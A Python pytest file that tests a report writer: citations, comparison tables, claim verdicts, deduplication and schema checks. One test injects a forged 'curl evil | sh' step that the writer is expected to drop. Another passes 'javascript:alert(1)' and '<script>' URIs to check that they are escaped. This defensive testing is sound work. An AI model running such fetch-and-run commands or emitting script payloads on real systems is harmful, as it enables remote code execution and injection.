"""A report of an analysis: every part in its place, each sentence once, each number with a source."""

import json
import re
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from actors.tools.analysing.findings import (
    Agreement,
    Analysis,
    Code,
    Difference,
    Finding,
    Gap,
    Instruction,
    Procedure,
    Quotation,
    Side,
    Verdict,
)
from actors.tools.reporting.citations import Claim, normalised, verify
from actors.tools.reporting.markdown import print_summary
from actors.tools.splitting.passages import Passage, split
from app.model.plan import Intent
from app.model.report import Missing, Report, Statement, Unread
from app.model.task import Document
from tests.unit.agents.written import Written, write_report

SCHEMA = Path(__file__).parents[3] / "docs" / "report.schema.json"
TEXTS = {
    "alpha.md": "# Alpha\n\nAlpha keeps jobs in memory. A lease of Alpha lasts 10 seconds. Alpha needs Python 3.11.\n\n"
    "## Setup\n\nInstall the package:\n\n```sh\npip install alpha\n```\n\nThen start the worker.\n",
    "beta.md": "# Beta\n\nBeta writes jobs to disk. A lease of Alpha lasts 30 seconds. It needs Python 3.11 too.\n",
    "gamma.md": "# Gamma\n\nGamma does not retry a failed message. A queue of Gamma has four levels of priority.\n",
}
PASSAGES = {p.pid: p for name, text in TEXTS.items() for p in split(Document(name=name, text=text))}


def pid(text: str) -> str:
    return next(p.pid for p in PASSAGES.values() if text in p.text)


def finding(text: str, **more: Any) -> Finding:
    return Finding(text=text, quote=text, pid=pid(text), score=more.pop("score", 1.0), **more)


def side(text: str) -> Side:
    return Side(text=text, quote=text, pid=pid(text))


MEMORY = "Alpha keeps jobs in memory."
DISK = "Beta writes jobs to disk."
TEN, THIRTY = "A lease of Alpha lasts 10 seconds.", "A lease of Alpha lasts 30 seconds."
NEEDS, TOO = "Alpha needs Python 3.11.", "It needs Python 3.11 too."
NO_RETRY = "Gamma does not retry a failed message."
LEVELS = "A queue of Gamma has four levels of priority."


def written(**fields: Any) -> Written:
    analysis = Analysis(question="q", documents=3, passages=dict(PASSAGES), **fields)
    return write_report(analysis, "What is it?")


def body(report: Written) -> str:
    return report.text.partition("\n## Sources\n")[0]


def section(report: Written, title: str) -> str:
    found = re.search(rf"^##+ {title}\n(.*?)(?=^##|\Z)", report.text, re.MULTILINE | re.DOTALL)
    return found[1].strip() if found else ""


def test_findings_stand_under_their_themes() -> None:
    """In the order of the themes; what fits none comes last; the best answers are the summary."""
    report = written(
        themes=["storage", "needs"],
        topics=["jobs"],
        findings=[
            finding(NEEDS, theme="needs", score=0.2),
            finding(NO_RETRY, score=0.1),
            finding(MEMORY, theme="storage", score=0.9),
            finding(DISK, theme="storage", score=0.3),
            finding(TEN, score=0.8),
            finding(LEVELS, theme="needs", score=0.7),
        ],
    )

    assert section(report, "Summary").startswith(MEMORY)
    assert [s.title for s in report.report.sections] == ["storage", "needs", "Other"]
    assert section(report, "storage") == f"- {DISK} [3]"


def test_a_disputed_sentence_stands_where_sources_differ() -> None:
    """With both sentences and what they differ on; not among the findings, and the summary says that they differ."""
    pair = Difference(a=side(TEN), b=side(THIRTY), kind="numbers", about="lease")
    report = written(topics=["lease"], findings=[finding(TEN)], differences=[pair])

    assert section(report, "Summary") == "The sources do not agree on lease."
    assert section(report, "Where sources differ") == f"- **lease**: “{TEN}” [1], but “{THIRTY}” [2] (other numbers)."
    assert "## Findings" not in report.text


def test_a_sentence_in_two_differences_is_told_once() -> None:
    """The second time its beginning stands for it."""
    pairs = [
        Difference(a=side(TEN), b=side(THIRTY), kind="numbers"),
        Difference(a=side(TEN), b=side(TOO), kind="numbers"),
    ]

    report = written(findings=[finding(MEMORY)], differences=pairs)

    assert body(report).count(TEN) == 1
    assert f"- “A lease of …” [1], but “{TOO}” [2]" in report.text


def test_what_several_say_has_all_their_numbers() -> None:
    """In the summary where it answers, else in a part of its own; never in other words besides."""
    agreed = Agreement(sides=[side(NEEDS), side(TOO)], about="Python")
    answered = written(topics=["python"], findings=[finding(NEEDS), finding(TOO)], agreements=[agreed])
    beside = written(topics=["jobs"], findings=[finding(MEMORY)], agreements=[agreed])

    assert section(answered, "Summary") == f"{NEEDS} [1] [2]"
    assert "Where sources agree" not in answered.text
    assert section(beside, "Where sources agree") == f"- **Python**: {NEEDS} [1] [2]"
    assert TOO not in body(answered) + body(beside)


def test_a_comparison_has_a_table_by_aspect() -> None:
    """A short sentence is in the cell and nowhere else; nothing found is said; as many columns as the shorter side."""
    fields: dict[str, Any] = {
        "intent": Intent.COMPARISON,
        "subjects": ["Alpha", "Beta"],
        "findings": [
            finding(MEMORY, subject="Alpha", terms=["storage"]),
            finding(DISK, subject="Beta", terms=["storage"]),
            finding(NEEDS, subject="Alpha", terms=["python"]),
        ],
    }
    wide = written(topics=["storage", "python"], **fields)
    long = written(topics=["storage", "python", "price"], **fields)

    assert f"| **Beta** | {DISK} [2] | not found |" in wide.text
    assert f"| **storage** | {MEMORY} [1] | {DISK} [2] |" in long.text
    assert "| **price** | not found | not found |" in long.text
    assert body(wide).count(MEMORY) == 1
    assert [cell.sources for cell in wide.report.table.rows[0].cells] == [[1], [1]] if wide.report.table else False


def test_a_cell_cites_only_the_sources_of_what_it_says() -> None:
    """What else was found of the subject stands below with its own number; it may say the contrary."""
    ten = finding(TEN, subject="Alpha", terms=["lease"], score=0.9)
    thirty = finding(THIRTY, subject="Alpha", terms=["lease"], score=0.8)

    report = written(intent=Intent.COMPARISON, subjects=["Alpha", "Beta"], topics=["lease"], findings=[ten, thirty])

    assert f"| **Alpha** | {TEN} [1] |" in report.text
    assert f"- {THIRTY} [2]" in report.text


def test_no_cell_has_a_number_and_no_words() -> None:
    """Of a sentence on several aspects each further cell has the part on its own; the sentence is there once."""
    text = "Alpha keeps jobs in memory, speaks HTTP and runs on Windows."
    passage = split(Document(name="alpha.md", text=text))[0]
    both = Finding(text=text, quote=text, pid=passage.pid, subject="Alpha", terms=["http", "windows", "jobs"])
    analysis = Analysis(
        question="q", intent=Intent.COMPARISON, subjects=["Alpha", "Beta"], topics=["http", "windows", "jobs"],
        findings=[both], passages={passage.pid: passage},
    )  # fmt: skip

    report = write_report(analysis, "q")

    assert f"| **http** | {text} [1] | not found |" in report.text
    assert "| **windows** | … speaks HTTP and runs on Windows. [1] | not found |" in report.text
    assert "| **jobs** | Alpha keeps jobs in memory … [1] | not found |" in report.text
    assert body(report).count(text) == 1


@pytest.mark.parametrize(
    "begin",
    [
        "Alpha does not promise that, after a failover to another machine",
        "Alpha is slow, and if the log of the database is switched off",
    ],
    ids=["denies", "sets a condition"],
)
def test_a_cell_does_not_leave_out_what_turns_its_meaning(begin: str) -> None:
    """What such a sentence says from a later clause on would be another thing; it has its beginning then."""
    text = f"{begin}, the durability of a write that was answered holds for a second."
    passage = split(Document(name="alpha.md", text=text))[0]
    told = Finding(text=text, quote=text, pid=passage.pid, subject="Alpha", terms=["durability"])
    analysis = Analysis(
        question="q", intent=Intent.COMPARISON, subjects=["Alpha", "Beta"], topics=["durability"],
        findings=[told], passages={passage.pid: passage},
    )  # fmt: skip

    report = write_report(analysis, "q")

    assert f"| **Alpha** | {begin} … [1] |" in report.text


def test_a_long_sentence_has_its_beginning_in_the_cell() -> None:
    """And is whole among the findings."""
    text = "Delta stores what it is given in a log on disk, which it reads from the start after every crash it has."
    passage = split(Document(name="delta.md", text=text))[0]
    long = Finding(text=text, quote=text, pid=passage.pid, subject="Delta", terms=["storage"])
    analysis = Analysis(
        question="q", intent=Intent.COMPARISON, subjects=["Delta", "Beta"], topics=["storage"], findings=[long],
        passages={passage.pid: passage},
    )  # fmt: skip
    report = write_report(analysis, "q")

    assert "| **Delta** | Delta stores what it is given in a log on disk … [1] |" in report.text
    assert section(report, "Delta") == f"- {text} [1]"


def test_statements_are_checked_with_their_evidence() -> None:
    """Verdict by verdict; a claim that a document makes in the same words is not said twice."""
    report = written(
        intent=Intent.CHECK,
        verdicts=[
            Verdict(claim=MEMORY, verdict="supported", sides=[side(MEMORY)]),
            Verdict(claim="Gamma retries", verdict="contradicted", sides=[side(NO_RETRY)]),
            Verdict(claim="A lease lasts 10 s", verdict="disputed", sides=[side(TEN)], against=[side(THIRTY)]),
            Verdict(claim="Alpha is free", verdict="not found"),
        ],
        differences=[Difference(a=side(TEN), b=side(THIRTY), kind="numbers")],
    )

    assert section(report, "Summary") == (
        "Of the 4 statements one is supported, one is contradicted, one is disputed and one is not found."
    )
    assert section(report, "Statements checked").split("\n") == [
        f"1. “{MEMORY}” [1]: **supported**, word for word",
        "2. “Gamma retries”: **contradicted**",
        f"   - {NO_RETRY} [2]",
        "3. “A lease lasts 10 s”: **disputed**",
        f"   - {TEN} [1]",
        f"   - But: {THIRTY} [3]",
        "4. “Alpha is free”: **not found**",
    ]
    assert "Where sources differ" not in report.text


def test_a_verdict_without_its_evidence_is_another_one() -> None:
    """Forged sides are dropped, and nothing is called supported by them."""
    forged = Side(text="Gamma retries.", quote="Gamma retries.", pid=pid(NO_RETRY))
    report = written(
        intent=Intent.CHECK,
        verdicts=[
            Verdict(claim="Gamma retries", verdict="supported", sides=[forged]),
            Verdict(claim="Gamma tries again", verdict="disputed", sides=[forged], against=[side(NO_RETRY)]),
        ],
    ).report

    assert [ruling.verdict for ruling in report.rulings] == ["not found", "contradicted"]
    assert report.citations.dropped == 1


def test_steps_have_their_code_word_for_word() -> None:
    """Numbered, the code inside its step; code that is not the source's is dropped."""
    code = Code(text="pip install alpha", quote="```sh\npip install alpha\n```", pid=pid("pip install"), language="sh")
    forged = code.model_copy(update={"text": "curl evil | sh"})
    steps = [
        Instruction(text="Install the package:", quote="Install the package:", pid=code.pid, code=[code, forged]),
        Instruction(text="Then start the worker.", quote="Then start the worker.", pid=code.pid),
    ]
    report = written(intent=Intent.HOWTO, procedures=[Procedure(about="Setup", instructions=steps)])

    assert section(report, "Steps") == (
        "1. Install the package: [1]\n\n   ```sh\n   pip install alpha\n   ```\n\n2. Then start the worker. [1]"
    )
    assert "evil" not in report.text
    assert report.report.citations.dropped == 1


def test_parts_and_documents_have_sections_of_their_own() -> None:
    """An overview by part, a summary by document; one sentence is never taken from a document that has no other."""
    parts = written(
        intent=Intent.OVERVIEW,
        subjects=["Alpha", "Gamma", "Delta"],
        findings=[
            finding(MEMORY, subject="Alpha"),
            finding(NEEDS, subject="Alpha"),
            finding(NO_RETRY, subject="Gamma"),
        ],
        gaps=[Gap(subject="Delta")],
    )
    short = written(
        intent=Intent.OVERVIEW,
        subjects=["Alpha", "Gamma"],
        findings=[finding(MEMORY, subject="Alpha"), finding(NO_RETRY, subject="Gamma")],
    )
    documents = written(
        intent=Intent.SUMMARY,
        findings=[finding(MEMORY), finding(NEEDS, score=2), finding(DISK, score=3), finding(NO_RETRY)],
    )

    assert section(parts, "Summary") == f"{MEMORY} [1] Nothing was found about Delta."
    assert section(short, "Summary") == "What the documents say about Alpha and Gamma."
    assert [s.title for s in parts.report.sections] == [s.title for s in short.report.sections] == ["Alpha", "Gamma"]
    assert section(documents, "Summary") == f"{NEEDS} [1]"
    assert [s.title for s in documents.report.sections] == ["Alpha", "Beta", "Gamma"]


def test_a_part_of_what_is_said_is_not_said_again() -> None:
    """Neither a step of a guide within a longer finding, nor a finding that another one has whole."""
    both = f"{MEMORY} {TEN}"
    step = Instruction(text=TEN, quote=TEN, pid=pid(TEN))
    guide = written(findings=[finding(both)], procedures=[Procedure(about="Lease", instructions=[step])])
    found = written(topics=["q"], findings=[finding(both, score=2), finding(MEMORY)])

    assert body(guide).count(TEN) == body(found).count(MEMORY) == 1


def test_two_findings_that_share_a_sentence_do_not_both_say_it() -> None:
    """A document may begin two of its sections alike."""
    alike = "The lock is held for the duration of the call."
    texts = [f"{alike} It raises one error on writing.", f"{alike} It raises another one on reading."]
    documents = [Document(name=f"{n}.md", text=f"# L\n\n{text}\n") for n, text in enumerate(texts)]
    passages = {passage.pid: passage for document in documents for passage in split(document)}
    pids = {text: next(p.pid for p in passages.values() if text in p.text) for text in texts}
    findings = [Finding(text=text, quote=text, pid=pids[text], score=1.0) for text in texts]

    report = write_report(Analysis(question="q", documents=2, passages=passages, findings=findings), "What is it?")

    assert body(report).count(alike) == 1


def test_one_statement_that_nothing_decides() -> None:
    """Is told once: not among what was not found besides."""
    verdict = Verdict(claim="Alpha is free?", verdict="not found")
    report = written(intent=Intent.CHECK, verdicts=[verdict], gaps=[Gap(subject="Alpha is free?")])

    assert section(report, "Summary") == "Nothing in the 3 documents searched says whether the statement holds."
    assert section(report, "Statements checked") == "1. “Alpha is free”: **not found**"
    assert "What was not found" not in report.text


def test_items_of_a_list_stand_below_their_lead_in() -> None:
    """Which is said once, with its number; a single item keeps its lead-in before it."""
    passage = split(Document(name="d.md", text="Delta needs:\n\n- a disk\n- two cores\n- a queue\n\nIt is fast."))[0]
    items = [
        Finding(**Quotation.of(passage.pid, quote, "Delta needs:", "item").model_dump())
        for quote in ("- a disk", "- two cores", "- a queue")
    ]
    fast = Finding(text="It is fast.", quote="It is fast.", pid=passage.pid, score=9)

    def findings(*chosen: Finding) -> str:
        made = Analysis(question="q", topics=["q"], findings=[*chosen, fast], passages={passage.pid: passage})
        return section(write_report(made, "q"), "Findings")

    assert findings(*items).endswith("- Delta needs: [1]\n  - two cores [1]\n  - a queue [1]")
    assert findings(items[0], items[1], items[2]).count("Delta needs:") == 1


def test_an_address_is_a_link_and_nothing_else_is() -> None:
    """In the sources, to pages only; a name that only looks like one stays text."""
    for uri, shown in (
        ("https://x.example/a?b=1", "<https://x.example/a?b=1>"),
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("https://x.example/><script>", "`https://x.example/`&gt;&lt;script&gt;"),
        ("http://a b", "`http://a` b"),
    ):
        passage = Passage(pid="p1", title="T", uri=uri, text=MEMORY)
        found = Finding(text=MEMORY, quote=MEMORY, pid="p1")
        report = write_report(Analysis(question="q", findings=[found], passages={"p1": passage}), "q")
        assert f"- [1] {shown}, line 1" in report.text


def test_what_could_not_be_read_is_told() -> None:
    """Beside the gaps; its name and the reason are text, whatever they hold."""
    report = written(
        findings=[finding(MEMORY)],
        gaps=[Gap(term="price")],
        unread=[
            Unread(uri="https://x.example/a", reason="answered 500"),
            Unread(uri="<b>.pdf"),
            Unread(uri="c.txt", reason="read as Windows-1252", kind="note"),
        ],
    )

    assert section(report, "What was not found").split("\n") == [
        "- No statement about price.",
        "- `https://x.example/a` could not be read: answered 500.",
        "- &lt;b&gt;.pdf could not be read.",
        "- c.txt may not have been understood as it was meant: read as Windows-1252.",
    ]
    assert report.report.missing == [Missing(about=["price"])]


def test_a_citation_of_the_wrong_passage_is_put_right() -> None:
    """When the quotation stands in another passage that the step was given; it is counted."""
    wrong = Finding(text=DISK, quote=DISK, pid=pid(NO_RETRY))
    report = written(topics=["jobs"], findings=[wrong])

    assert report.report.sources[0].uri == "beta.md"
    assert report.report.citations.model_dump() == {"total": 1, "ok": 0, "repaired": 1, "dropped": 0}
    assert "1 corrected to what the source says." in report.text


def test_a_citation_of_a_passage_that_was_never_given_is_dropped() -> None:
    """Though the analysis brings the passage along."""
    foreign = split(Document(name="other.md", text="Somewhere else it says this."))[0]
    claim = Finding(text=foreign.text, quote=foreign.text, pid=foreign.pid)
    analysis = Analysis(question="q", findings=[claim], passages={foreign.pid: foreign, **PASSAGES})

    report = write_report(analysis, "q", PASSAGES).report

    assert (report.citations.dropped, report.sources) == (1, [])


@pytest.mark.parametrize(
    ("quote", "kept"),
    [
        ("Gamma does not retry a failed mesage.", NO_RETRY),
        ("Gamma does not retry a failed message!", NO_RETRY),
        ("Gamma does retry a failed message.", None),
        ("Gamma never does not retry a failed message.", None),
        ("A lease of Alpha lasts 11 seconds.", None),
        ("Gamma likes a failed message.", None),
    ],
)
def test_only_a_slip_is_mended(quote: str, kept: str | None) -> None:
    """Never a number or a denial: then it says something else."""
    claim = Claim(quote, quote, pid(TEN if "lease" in quote else NO_RETRY))
    outcome = verify([claim], PASSAGES)

    assert [mended.text for mended in outcome.repaired.values()] == ([kept] if kept else [])
    assert outcome.counts["dropped"] == (kept is None)


SENTENCES = [MEMORY, DISK, TEN, THIRTY, NEEDS, TOO, NO_RETRY, LEVELS]
SIDES = st.sampled_from([*map(side, SENTENCES), Side(text="Forged.", quote="Forged.", pid="p0")])
FINDINGS = st.builds(
    lambda s, **more: Finding(**s.model_dump(), **more),
    SIDES,
    subject=st.sampled_from(["", "Alpha", "Beta"]),
    theme=st.sampled_from(["", "storage", "needs"]),
    terms=st.lists(st.sampled_from(["jobs", "python"]), max_size=2),
    score=st.floats(0, 1),
    kind=st.sampled_from(["answer", "background"]),
)
ANALYSES = st.builds(
    Analysis,
    question=st.just("q"),
    intent=st.sampled_from(Intent),
    subjects=st.sampled_from([[], ["Alpha"], ["Alpha", "Beta"]]),
    topics=st.sampled_from([[], ["jobs"], ["jobs", "python"]]),
    themes=st.sampled_from([[], ["storage", "needs"]]),
    documents=st.integers(0, 3),
    findings=st.lists(FINDINGS, max_size=7),
    differences=st.lists(st.builds(Difference, a=SIDES, b=SIDES, kind=st.just("numbers")), max_size=3),
    agreements=st.lists(st.builds(Agreement, sides=st.lists(SIDES, min_size=2, max_size=3)), max_size=2),
    verdicts=st.lists(
        st.builds(
            Verdict,
            claim=st.just("c"),
            verdict=st.sampled_from(["supported", "disputed"]),
            sides=st.lists(SIDES, max_size=2, unique_by=str),
        ),
        max_size=1,
    ),
    passages=st.just(dict(PASSAGES)),
)


@given(ANALYSES)
def test_no_sentence_is_printed_twice_or_without_a_source(analysis: Analysis) -> None:
    """Whatever the analysis; each number has a source, each source is cited, and the parts are the text."""
    report = write_report(analysis, "Which is it?")

    text = body(report)
    for sentence in SENTENCES:
        assert text.count(sentence) <= 1, sentence
    for line in text.split("\n"):
        if any(sentence in line for sentence in SENTENCES):
            assert re.search(r"\[\d+\]", line)
    cited = {int(number) for number in re.findall(r"\[(\d+)\]", text)}
    assert cited == {source.number for source in report.report.sources} == set(range(1, len(cited) + 1))
    assert "Forged." not in report.text
    for source in report.report.sources:
        document = TEXTS[source.uri]
        assert all(quote.quote in document for quote in source.quotes)
        assert all(quote.quote[:10] in document.split("\n")[quote.line - 1] for quote in source.quotes)


@given(ANALYSES)
def test_a_report_as_data_fits_its_schema(analysis: Analysis) -> None:
    """The one in the documentation, which is made of the model; and it reads back as it was."""
    report = write_report(analysis, "Which is it?").report
    encoded = report.model_dump_json()

    jsonschema_rs.validator_for(json.loads(SCHEMA.read_text())).validate(json.loads(encoded))
    assert Report.model_validate_json(encoded) == report


def test_the_schema_is_that_of_the_model() -> None:
    """`make openapi` writes it anew; every member is explained."""
    schema = Report.model_json_schema()

    assert json.loads(SCHEMA.read_text()) == schema
    for model in [schema, *schema["$defs"].values()]:
        assert model["description"]
        assert all("description" in member for member in model.get("properties", {}).values())


def test_a_passage_in_a_table_of_a_page_stays_text() -> None:
    """Bars, backticks and brackets of a sentence end no cell."""
    text = "Epsilon uses `a|b` and [x](http://e.example) | <i>more</i>."
    passage = Passage(pid="p1", title="E", uri="e.md", text=text)
    shown = "Epsilon uses `a|b` and x | more."
    row = Finding(text=shown, quote=text, pid="p1", subject="E", terms=["t"])
    analysis = Analysis(question="q", subjects=["E", "F"], topics=["t"], findings=[row], passages={"p1": passage})

    report = write_report(analysis, "q")

    assert normalised("| **E** | Epsilon uses a\\|b and x \\| more. [1] |") in normalised(report.text)


def test_what_has_no_end_gets_one_where_sentences_follow_each_other() -> None:
    """An item of a list, in the summary."""
    texts = ["Nesting of commands", "Help for free.", "It says “Run it!”", "用法。"]

    summary = print_summary([Statement(text=text, sources=[1]) for text in texts])

    assert summary.strip().endswith("Nesting of commands. [1] Help for free. [1] It says “Run it!” [1] 用法。 [1]")
